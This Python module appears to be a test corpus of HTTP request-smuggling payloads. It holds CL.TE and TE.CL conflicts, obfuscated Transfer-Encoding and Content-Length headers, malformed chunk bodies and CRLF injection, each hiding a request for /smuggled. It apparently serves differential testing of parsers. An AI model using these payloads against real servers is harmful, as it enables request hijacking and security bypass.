"""Requests that two readers may cut at different places: (name, bytes). Behind the place where one reader sees the end of a
request lies another, for /smuggled."""

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
ENDED = b"0\r\n\r\n"  # the last chunk
CHUNK = b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n" + ENDED


def post(*fields, body=b"", method=b"POST", version=b"HTTP/1.1"):
    lines = [method + b" /attack " + version, b"Host: x", *fields]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def both(coding, body=ENDED + SMUGGLED, length=None):
    """With Content-Length and a field line that may mean Transfer-Encoding."""
    return post(b"Content-Length: %d" % (len(body) if length is None else length), coding, body=body)


CODINGS = {
    "plainly": b"Transfer-Encoding: chunked",
    "in capitals": b"TRANSFER-ENCODING: CHUNKED",
    "space before the colon": b"Transfer-Encoding : chunked",
    "tab before the colon": b"Transfer-Encoding\t: chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "vertical tab": b"Transfer-Encoding: \x0bchunked",
    "zero": b"Transfer-Encoding\0: chunked",
    "zero behind": b"Transfer-Encoding: chunked\0",
    "space in front": b" Transfer-Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded into the field before": b"X: x\r\n Transfer-Encoding: chunked",
    "behind a bare LF": b"X: x\nTransfer-Encoding: chunked",
    "behind a bare CR": b"X: x\rTransfer-Encoding: chunked",
    "ended by a bare LF": b"Transfer-Encoding: chunked\nX: x",
    "unknown": b"Transfer-Encoding: xchunked",
    "quoted": b"Transfer-Encoding: \"chunked\"",
    "with a parameter": b"Transfer-Encoding: chunked;q=1",
    "identity": b"Transfer-Encoding: identity",
    "identity, chunked": b"Transfer-Encoding: identity, chunked",
    "chunked, identity": b"Transfer-Encoding: chunked, identity",
    "twice chunked": b"Transfer-Encoding: chunked, chunked",
    "an empty member": b"Transfer-Encoding: , chunked",
    "two lines": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "an empty line of it": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "named in Connection": b"Transfer-Encoding: chunked\r\nConnection: transfer-encoding",
}

LENGTHS = {
    "twice": b"Content-Length: 0\r\nContent-Length: %d",
    "twice, the other way": b"Content-Length: %d\r\nContent-Length: 0",
    "a list": b"Content-Length: 0, %d",
    "plus": b"Content-Length: +%d",
    "minus": b"Content-Length: -%d",
    "hexadecimal": b"Content-Length: 0x%x",
    "zeros in front": b"Content-Length: 000000000000000000000000%d",
    "past 64 bits": b"Content-Length: 184467440737095516%d",
    "space before the colon": b"Content-Length : %d",
    "space within": b"Content-Length: 0 %d",
    "folded": b"Content-Length:\r\n %d",
    "underscore": b"Content_Length: %d",
    "letters behind": b"Content-Length: %da",
    "named in Connection": b"Content-Length: %d\r\nConnection: content-length",
    "with Expect": b"Content-Length: %d\r\nExpect: 100-continue",
    "with an unknown Expect": b"Content-Length: %d\r\nExpect: 200-ok",
    "with Upgrade": b"Content-Length: %d\r\nConnection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
}

BODIES = {
    "a size past 64 bits": b"10000000000000000\r\n" + SMUGGLED + b"\r\n" + ENDED,
    "a size past 32 bits": b"100000005\r\nhello\r\n" + ENDED + SMUGGLED,
    "a hexadecimal mark": b"0x5\r\nhello\r\n" + ENDED + SMUGGLED,
    "a negative size": b"-5\r\nhello\r\n" + ENDED + SMUGGLED,
    "a space before the size": b" 5\r\nhello\r\n" + ENDED + SMUGGLED,
    "a space behind the size": b"5 \r\nhello\r\n" + ENDED + SMUGGLED,
    "a bare LF behind the size": b"5\nhello\r\n" + ENDED + SMUGGLED,
    "a bare CR behind the size": b"5\rXhello\r\n" + ENDED + SMUGGLED,
    "a bare LF in an extension": b"5;a\nhello\r\n" + ENDED + SMUGGLED,
    "a quoted line end in an extension": b"5;a=\"\r\nhello\r\n" + ENDED + SMUGGLED,
    "a bare LF behind the data": b"5\r\nhello\n" + ENDED + SMUGGLED,
    "no line end behind the data": b"5\r\nhello" + ENDED + SMUGGLED,
    "two bytes behind the data": b"5\r\nhelloXX" + ENDED + SMUGGLED,
    "an end of bare LFs": b"5\r\nhello\r\n0\n\n" + SMUGGLED,
    "many zeros": b"0000000000000000000005\r\nhello\r\n" + b"0" * 30 + b"\r\n\r\n" + SMUGGLED,
    "a trailer with a length": b"5\r\nhello\r\n0\r\nContent-Length: 40\r\n\r\n" + SMUGGLED,
    "a trailer with a bare LF": b"5\r\nhello\r\n0\r\nA: b\nC: d\r\n\r\n" + SMUGGLED,
    "a request in the trailer": b"5\r\nhello\r\n0\r\n" + SMUGGLED,
}

REQUESTS = [
    *((f"CL.TE, {name}", both(coding)) for name, coding in CODINGS.items()),
    *((f"TE.CL, {name}", both(coding, CHUNK, 4)) for name, coding in list(CODINGS.items())[:3]),
    *((f"length, {name}", post(field % len(SMUGGLED), body=SMUGGLED)) for name, field in LENGTHS.items()),
    *((f"chunks, {name}", post(b"Transfer-Encoding: chunked", body=body)) for name, body in BODIES.items()),
    ("chunks in HTTP/1.0", post(b"Transfer-Encoding: chunked", b"Connection: keep-alive", body=ENDED + SMUGGLED, version=b"HTTP/1.0")),
    ("GET with content", post(b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED, method=b"GET")),
    ("HEAD with content", post(b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED, method=b"HEAD")),
    ("GET with chunks", post(b"Transfer-Encoding: chunked", body=CHUNK, method=b"GET")),
    ("no length at all", post(body=SMUGGLED)),
    ("a head of bare LFs", b"POST /attack HTTP/1.1\nHost: x\nContent-Length: %d\n\n" % len(SMUGGLED) + SMUGGLED),
    ("an empty name", post(b": x", b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED)),
    ("no colon", post(b"Content-Length", b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED)),
    ("two spaces in the request line", b"POST  /attack HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED),
    ("a line end in the target", b"GET /attack%0d%0aContent-Length:%20%d HTTP/1.1\r\nHost: x\r\n\r\n".replace(b"%20%d", b"%2040") + SMUGGLED),
    ("two in one go", post(method=b"GET") + SMUGGLED),
]
